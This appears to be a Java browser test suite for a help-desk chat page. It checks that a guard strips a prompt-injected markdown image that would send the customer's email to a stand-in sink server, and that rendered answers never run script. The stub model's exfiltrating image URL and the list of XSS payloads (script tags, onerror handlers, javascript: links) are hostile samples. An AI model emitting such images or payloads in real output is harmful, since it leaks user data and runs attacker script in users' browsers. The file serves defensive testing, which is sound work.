package dev.redoubt.app.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import dev.redoubt.samples.acme.Customer;
import dev.redoubt.testkit.Chromium;
import dev.redoubt.testkit.SinkServer;
import dev.redoubt.testkit.StubReply;
import dev.redoubt.testkit.StubRequest;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The chat page in a real browser: what an injected image does without the guard, and does not do
 * with it.
 */
@Timeout(120)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ChatPageTest {
  private static final Duration SOON = Duration.ofSeconds(10);
  private static final String REST = "Your parcel is on its way.";

  private Chromium chromium;
  private HelpDeskRig rig;
  private SinkServer sink;
  private BrowserContext context;
  private Page page;
  private final List<String> surprises = new ArrayList<>();

  @BeforeAll
  void startAll(@TempDir Path folder) {
    assumeTrue(Chromium.find().isPresent(), Chromium.MISSING);
    chromium = Chromium.start(Chromium.find().orElseThrow());
    rig = HelpDeskRig.start(folder, this::model);
  }

  @AfterAll
  void closeAll() {
    if (chromium != null) {
      rig.close();
      chromium.close();
    }
  }

  @BeforeEach
  void openBrowser() {
    sink = SinkServer.start();
    surprises.clear();
    context = chromium.browser().newContext();
    page = context.newPage();
    page.onDialog(dialog -> {
      surprises.add("dialog " + dialog.message());
      dialog.dismiss();
    });
    page.onPageError(error -> surprises.add("error " + error));
  }

  @AfterEach
  void closeBrowser() {
    context.close();
    sink.close();
  }

  /** A model that was told by a planted text to let an image carry the customer's address. */
  private StubReply model(StubRequest request) {
    String question = request.lastUserText();
    if (question.startsWith("Say: ")) {
      return StubReply.text(question.substring("Say: ".length()));
    }
    String mail = rig.desk().world().attacker().mail();
    return StubReply.text(
        REST + " ![status](" + sink.url() + "/collect?of=" + mail + ") **Anything else?**");
  }

  private Locator ask(boolean guarded, String question) {
    page.navigate(rig.page(guarded).toString());
    Customer user = rig.desk().world().attacker();
    page.fill("#user", user.mail());
    page.fill("#password", user.password());
    page.click("#login button");
    page.waitForSelector("#who:visible");
    assertThat(page.textContent("#who")).isEqualTo("Hello, " + user.name());
    page.fill("#question", question);
    page.click("#send");
    page.waitForSelector(".assistant[data-done=true]");
    return page.locator(".assistant[data-done=true]");
  }

  /** Calls the sink from the page: what the page had asked for before is there before it. */
  private List<String> hitsBeforeNow() throws InterruptedException {
    page.evaluate("async url => (await fetch(url)).ok", sink.url() + "/now");
    assertThat(sink.awaitHits(1, SOON)).isTrue();
    return sink.hits().stream()
        .map(StubRequest::target)
        .takeWhile(target -> !target.equals("/now"))
        .toList();
  }

  @Test
  void anInjectedImageCallsTheSinkWithoutTheGuard() throws Exception {
    Locator answer = ask(false, "Where is my parcel?");
    assertThat(sink.awaitHits(1, SOON)).isTrue();
    assertThat(sink.hits().getFirst().target())
        .isEqualTo("/collect?of=" + rig.desk().world().attacker().mail());
    assertThat(answer.textContent()).startsWith(REST).endsWith("Anything else?");
  }

  @Test
  void theGuardTakesTheImageOutAndLeavesTheRest() throws Exception {
    Locator answer = ask(true, "Where is my parcel?");
    assertThat(answer.locator("img").count()).isZero();
    assertThat(hitsBeforeNow()).isEmpty();
    assertThat(answer.textContent())
        .startsWith(REST)
        .contains("[image removed]")
        .endsWith("Anything else?");
    assertThat(answer.locator("strong").textContent()).isEqualTo("Anything else?");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>window.pwned = 1; fetch('SINK/script')</script>",
        "<img src=x onerror=\"window.pwned = 1\"><svg onload=window.pwned=1>",
        "[click](javascript:window.pwned=1) ![x](javascript:window.pwned=1)",
        "![x\" onerror=\"window.pwned=1](http://127.0.0.1:1/none.png)",
        "![x](http://127.0.0.1:1/none.png\"onerror=\"window.pwned=1)",
        "![a http://h/onmouseover=window.pwned=1// b](http://127.0.0.1:1/none.png)",
        "![a http://h/src=x](http://127.0.0.1:1/none.png) ![ http://h/onpointerover=window.pwned=1//](http://127.0.0.1:1/none.png)",
        "[a http://h/onpointerover=window.pwned=1//](http://127.0.0.1:1/)",
        "`![**a** http://h/onpointerover=window.pwned=1//](http://127.0.0.1:1/x`y.png)`",
        "**[a](http://127.0.0.1:1/`onpointerover=window.pwned=1//`)**",
      })
  void aScriptInAnAnswerIsTextAndNeverRuns(String attack) throws Exception {
    Locator answer = ask(false, "Say: " + attack.replace("SINK", sink.url().toString()));
    Locator parts = answer.locator("*");
    // Handlers that wait for the mouse must not be there either.
    assertThat(
            page.evaluate(
                "() => [...document.querySelectorAll('.assistant *')].flatMap(e =>"
                    + " [...e.attributes].map(a => a.name)).filter(n => !['src', 'href', 'alt', 'rel'].includes(n))"))
        .isEqualTo(List.of());
    for (int i = 0; i < parts.count(); i++) {
      parts.nth(i).dispatchEvent("pointerover");
      parts.nth(i).dispatchEvent("mouseover");
    }
    assertThat(page.evaluate("() => window.pwned === undefined")).isEqualTo(true);
    assertThat(answer.locator("script, svg, [href^='javascript'], [src^='javascript']").count())
        .isZero();
    assertThat(hitsBeforeNow()).isEmpty();
    assertThat(surprises).isEmpty();
  }

  @Test
  void aLittleMarkdownIsShownAsSuch() {
    Locator answer =
        ask(
            false,
            "Say: **Bold [link](http://127.0.0.1:1/a_(b))**, `code <b>`, http://127.0.0.1:1/bare. "
                + "2 * 3 ** 4 and [no link] (x)");
    assertThat(answer.locator("strong a").getAttribute("href"))
        .isEqualTo("http://127.0.0.1:1/a_(b)");
    assertThat(answer.locator("code").textContent()).isEqualTo("code <b>");
    assertThat(answer.locator("> a").getAttribute("href")).startsWith("http://127.0.0.1:1/bare");
    assertThat(answer.textContent())
        .isEqualTo("Bold link, code <b>, http://127.0.0.1:1/bare. 2 * 3 ** 4 and [no link] (x)");
  }
}
